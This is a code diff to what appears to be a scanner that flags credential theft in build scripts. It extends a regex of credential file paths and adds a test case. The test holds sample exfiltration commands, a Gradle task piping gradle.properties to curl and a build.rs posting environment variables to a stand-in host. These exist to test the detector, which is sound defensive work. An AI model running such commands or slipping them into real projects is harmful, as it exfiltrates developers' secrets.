@@ -21,7 +21,7 @@ static WHOLE_ENV: LazyLock<Regex> = LazyLock::new(|| {
 });
 #[allow(clippy::expect_used)]
 static CRED_FILE: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(&crate::words::ascii_word_boundaries(r"\.aws/credentials|\.npmrc|\.git-credentials|\.ssh/id_|\.netrc|\.docker/config\.json|\.kube/config|\.pypirc|\.cargo/credentials|gh/hosts\.yml"))
+    Regex::new(&crate::words::ascii_word_boundaries(r"\.aws/credentials|\.npmrc|\.git-credentials|\.ssh/id_|\.netrc|\.docker/config\.json|\.kube/config|\.pypirc|\.cargo/credentials|gh/hosts\.yml|\.gradle/gradle\.properties|\.m2/settings\.xml|\.gem/credentials|\.pgpass|\.vault-token|\.config/gcloud|\.azure/|\.terraform\.d/credentials|\.s3cfg|\.pulumi/credentials|\.config/doctl"))
         .expect("regex")
 });
 
@@ -95,6 +95,10 @@ mod tests {
         assert!(flags(
             "/work/app/build.rs",
             "fn main() {\n    let v: Vec<_> = std::env::vars().collect();\n    let _ = ureq::post(\"https://x.example\").send_string(&format!(\"{v:?}\"));\n}\n"
+        ));
+        assert!(flags(
+            "/work/app/build.gradle",
+            "task r(type: Exec) { commandLine 'sh', '-c', 'cat ~/.gradle/gradle.properties | curl -d @- https://x.example' }\n"
         ));
         assert!(flags(
             "/work/app/scripts/x.sh",
